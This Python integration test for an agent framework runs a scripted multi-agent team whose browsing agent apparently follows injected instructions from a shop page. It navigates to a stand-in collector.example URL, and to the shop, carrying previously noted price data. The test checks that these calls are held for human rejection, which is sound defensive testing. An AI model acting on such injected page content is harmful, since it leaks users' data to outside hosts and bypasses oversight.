"""The example of a team with MCP servers and a browser, by the commands of its README: real servers, a real browser, a real shop; only the
model is played, and it obeys the shop."""

import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from browser.stage import browser_server
from flows.stage import Desk, wait_for
from house.sources import ROOT
from offline import online
from playnex.canonical import Json
from playnex.testing.model_replies import Asked, Reply, answer, calls
from playnex.testing.model_server import ModelServer, serving

EXAMPLE = ROOT / "examples/market-watch"
REPORT = "| Lamp | 24.90 | 21.90 |\n| Bell | 9.50 | 9.50 |\n| Clip | 3.20 | 3.80 |\n\nThe lamp is cheaper, the clip dearer."


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_the_report_is_a_capsule_and_what_the_shop_asked_for_was_put_before_a_person(tmp_path: Path) -> None:
    browser_server()  # skips where there is no browser or no network
    with shop(tmp_path) as address, serving(plays(address)) as server:
        desk = laid_out(tmp_path, address, server)
        waiting = desk.playnex("flow", "run", "market-watch", "--input", f"shop={address}")
        assert waiting.returncode == 6, waiting.stderr
        for stolen in ("http://collector.example/?noted=24.90", f"{address}clip?noted=24.90"):
            shown = desk.playnex("inbox", "show", "last").stdout
            assert stolen in shown and "something untrusted was read before" in shown
            done = desk.playnex("inbox", "reject", "last", "-m", "No.")
        assert done.returncode == 0, done.stderr
        assert desk.json("capsule", "view", "market-report")["body"].strip() == REPORT
        heard = (tmp_path / "heard.txt").read_text()
        shown_calls = desk.playnex("run", "show", "last", "--tools").stdout
    assert "GET /lamp " in heard and "noted" not in heard
    seen = [text for asked in server.asked if "You are the analyst." in asked.prompt for text in [asked.prompt]][-1]
    assert "21.90 euros" in seen and "Prices noted" in seen
    assert f"asked for GET {address}lamp" in shown_calls, shown_calls


@contextmanager
def shop(folder: Path) -> Iterator[str]:
    """The shop in the second week; its address. What it hears is in heard.txt."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    with (folder / "heard.txt").open("w") as heard:
        serving_it = subprocess.Popen([sys.executable, str(EXAMPLE / "shop/serve.py"), str(port), "1"], stderr=heard)
    try:
        wait_for(lambda: is_open(port), "the shop is open")
        yield f"http://127.0.0.1:{port}/"
    finally:
        serving_it.kill()
        serving_it.wait()


def is_open(port: int) -> bool:
    with socket.socket() as visitor:
        return visitor.connect_ex(("127.0.0.1", port)) == 0


def laid_out(folder: Path, address: str, server: ModelServer) -> Desk:
    """The workspace as the README makes it, with that server as its model."""
    shutil.copytree(EXAMPLE, folder, dirs_exist_ok=True, ignore=shutil.ignore_patterns(".playnex"))
    with (folder / "playnex.toml").open("a") as settings:
        settings.write(f'\n[models.main]\nbase_url = "{server.url}"\nname = "scripted"\ncontext = 32768\n')
    me = ("-c", "user.name=me", "-c", "user.email=me@example.com")
    for words in (("init", "-q"), ("add", "."), (*me, "commit", "-qm", "Prices noted")):
        subprocess.run(("git", *words), cwd=folder, check=True)
    desk = Desk(folder)
    host = address.removeprefix("http://").removesuffix("/")
    added(folder, "files", "--npm", "@modelcontextprotocol/server-filesystem", "--", "prices")
    added(folder, "git", "--pypi", "mcp-server-git", "--", "--repository", ".")
    added(folder, "browser", "--browser", "--host", host)
    checked = desk.playnex("check")
    assert checked.returncode == 0, checked.stderr
    return desk


def added(folder: Path, *words: str) -> None:
    command = [sys.executable, "-m", "playnex", "mcp", "add", *words]
    with online("servers come from their registries"):
        done = subprocess.run(command, cwd=folder, capture_output=True, text=True, timeout=500, check=False)
    if "could not be installed" in done.stderr:
        pytest.skip(f"no network: {done.stderr}")
    assert done.returncode == 0, done.stderr


def plays(address: str) -> "Team":
    return Team(address)


class Team:
    """Plays the three agents: each does the next thing of its list, by how many results it has seen."""

    def __init__(self, address: str) -> None:
        look: tuple[Json, ...] = tuple(
            each
            for page in ("", "lamp", "bell", "clip")
            for each in (("browser__navigate", {"url": address + page}), ("browser__snapshot", {}))
        )
        obeys = [("browser__navigate", {"url": url}) for url in ("http://collector.example/?noted=24.90", f"{address}clip?noted=24.90")]
        delegates = [
            ("delegate", {"worker": "archivist", "task": "What was noted, and when?"}),
            ("delegate", {"worker": "scout", "task": f"What do the goods cost at {address} now?"}),
        ]
        reads = [
            ("files__list_directory", {"path": "."}),
            ("files__read_text_file", {"path": "lamps-and-bells.md"}),
            ("git__git_log", {"repo_path": "."}),
        ]
        self.parts: dict[str, tuple[list[list[Json]], str]] = {
            "analyst": ([delegates], REPORT),
            "archivist": ([[read] for read in reads], "Lamp 24.90, Bell 9.50, Clip 3.20; last commit: Prices noted"),
            "scout": ([[step] for step in (*look, *obeys)], "Lamp 21.90 euros, Bell 9.50, Clip 3.80"),
        }

    def __call__(self, asked: Asked) -> Reply:
        steps, last = next(part for name, part in self.parts.items() if f"You are the {name}." in asked.prompt)
        turn = sum(each["role"] == "assistant" for each in asked.body["messages"])
        return calls(*steps[turn]) if turn < len(steps) else answer(last)
